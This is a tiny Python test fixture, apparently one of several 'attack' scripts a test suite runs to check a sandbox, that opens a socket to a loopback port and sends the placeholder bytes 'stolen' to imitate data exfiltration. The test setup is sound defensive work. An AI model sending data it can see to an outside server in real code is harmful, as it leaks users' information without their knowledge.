"""Attack: send what it can see to a server (here, one the test listens with on loopback)."""
import socket

PORT = 47613          # tests/test_attacks.py listens here on loopback
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=1) as s:
        s.sendall(b"stolen")
except OSError:
    pass
